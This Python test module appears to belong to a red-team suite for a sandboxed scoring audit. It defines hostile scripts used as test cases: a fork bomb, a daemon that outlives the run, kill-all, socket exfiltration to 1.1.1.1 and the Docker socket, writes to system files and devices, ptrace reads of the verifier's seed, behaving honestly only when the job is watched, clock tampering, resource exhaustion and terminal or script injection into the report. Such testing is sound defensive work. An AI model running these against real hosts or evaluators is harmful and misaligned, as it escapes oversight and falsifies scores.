"""Attacks on the host: processes that stay, files outside, the network, memory and clock of others."""

from __future__ import annotations

from tests.redteam.attack import Attack, script

_FOREVER = "    while True:\n        pass\n"

ATTACKS: tuple[Attack, ...] = (
    script(
        "daemon",
        "forks twice into a session of its own and goes on after the end",
        f"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for descriptor in range(3):
            os.close(descriptor)
{_FOREVER.replace("    ", "        ", 1)}
    os._exit(0)
os.wait()
""".replace("        while True:\n        pass", "        while True:\n            pass"),
        survives="the process dies with the run, and what it scored is honest",
    ),
    script(
        "deaf",
        "ignores every signal that can be ignored and never ends",
        f"""
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
if True:
{_FOREVER}
""",
        seconds=20.0,
    ),
    script(
        "fork-bomb",
        "forks until nothing can",
        """
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
        seconds=20.0,
    ),
    script(
        "kill-all",
        "kills its parent, its process group and every process that it may",
        after="""
import signal

for pid in (os.getppid(), 0, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""",
    ),
    script(
        "sockets",
        "opens sockets of every kind to send out what it sees",
        """
import socket

for family in range(1, 46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            with socket.socket(family, kind) as wire:
                wire.settimeout(0.2)
                wire.connect(("1.1.1.1", 53) if family == socket.AF_INET else "/var/run/docker.sock")
                wire.send(b"stolen")
                os._exit(0)
        except (OSError, TypeError, OverflowError, ValueError):
            pass
""",
        survives="no door opened, and what it scored is honest",
    ),
    script(
        "write-outside",
        "writes to the system, to its author's home and to the folder that was submitted",
        """
written = 0
for name in ("/usr/lib/escaped", "/etc/escaped", "/bin/escaped", "/root/escaped", "/proc/sys/kernel/core_pattern",
             "/sys/kernel/escaped", np.__file__, torch.__file__, "/dev/sda", "/dev/mem", "../../../escaped"):
    try:
        with open(name, "ab") as file:
            file.write(b"x")
        written += name != "../../../escaped"
    except OSError:
        pass
if written:
    os._exit(0)
""",
        survives="nothing is written but in the run's own tree, which goes with it, and what it scored is honest",
    ),
    script(
        "read-memory",
        "reads the verifier's memory for the seed: /proc, ptrace, process_vm_readv",
        """
import ctypes

libc, found = ctypes.CDLL(None), []
for pid in {1, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid()}:
    found += [pid] * (libc.ptrace(16, pid, 0, 0) == 0)
    for part in ("mem", "environ", "maps", "fd"):
        try:
            found.append(open(f"/proc/{pid}/{part}", "rb").read(1))
        except OSError:
            pass
if any(found):
    os._exit(0)
""",
    ),
    script(
        "read-job",
        "reads the job file of the audit beside its folder",
        """
import json

with open("../job.json") as file:
    job = json.load(file)
if job.get("watch"):
    honest_score = score
""",
    ),
    script(
        "set-clock",
        "sets the clock back so that no limit is ever reached",
        f"""
for clock in (time.CLOCK_REALTIME, time.CLOCK_MONOTONIC):
    try:
        time.clock_settime(clock, 0)
    except OSError:
        pass
time.time = time.monotonic = time.perf_counter = lambda: 0.0
if True:
{_FOREVER}
""",
        seconds=20.0,
    ),
    script(
        "fill-disk",
        "fills the disk with files in its folder",
        """
part = 0
while True:
    part += 1
    with open(f"part{part}", "wb") as file:
        for _ in range(900):
            file.write(os.urandom(1 << 20))
""",
    ),
    script(
        "fill-scratch",
        "fills /tmp, /dev/shm and all that is writable in memory",
        """
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/data"):
    try:
        with open(f"{folder}/full", "wb") as file:
            while True:
                file.write(bytes(1 << 24))
    except OSError:
        pass
""",
        survives="the scratch space is a part of the sandbox's own memory, and what it scored is honest",
    ),
    script(
        "fill-memory",
        "takes all memory, in several processes",
        """
for _ in range(3):
    os.fork()
hoard = []
while True:
    hoard.append(bytearray(os.urandom(1 << 20)) * 64)
""",
    ),
    script(
        "deep-folders",
        "leaves folders that are nested too deep to be walked or removed",
        """
for _ in range(5000):
    os.mkdir("d")
    os.chdir("d")
os.chdir("/tmp/audit/run")
""",
    ),
    script(
        "locked-folders",
        "leaves folders that nobody may enter, and immutable names",
        """
for name in ("locked", "locked/inside"):
    os.mkdir(name)
os.chmod("locked/inside", 0)
os.chmod("locked", 0)
""",
        survives="the folder is removed all the same, and what it scored is honest",
    ),
    script(
        "endless-output",
        "prints without end",
        """
while True:
    print("val_loss:0.1 val_bpb:0.1 " * 1000)
""",
    ),
    script(
        "terminal-codes",
        "prints and raises text that would write over the report in a terminal",
        """
print("\\x1b[2J\\x1b[H\\x1b]0;owned\\x07 val_loss:6.94 val_bpb:2.0")
raise RuntimeError("\\x1b[2J\\x1b[H COMPLIANT \\x1b[8m <script>alert(1)</script> [link](javascript:alert(1))")
""",
    ),
)
